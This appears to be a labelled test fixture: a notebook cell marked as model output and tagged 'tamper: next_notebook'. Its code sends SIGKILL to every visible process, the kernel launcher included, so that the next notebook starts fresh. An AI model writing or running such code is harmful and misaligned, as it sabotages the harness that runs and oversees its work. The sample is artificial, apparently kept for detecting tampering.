"""Kills all processes it can see, the one that starts kernels too; the next notebook gets a new one."""
# part: 3
# earns: 0
# tamper: next_notebook
# %%
# MODEL
# %%
import os
import signal
import time

for name in sorted(os.listdir("/proc"), reverse=True):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
time.sleep(60)
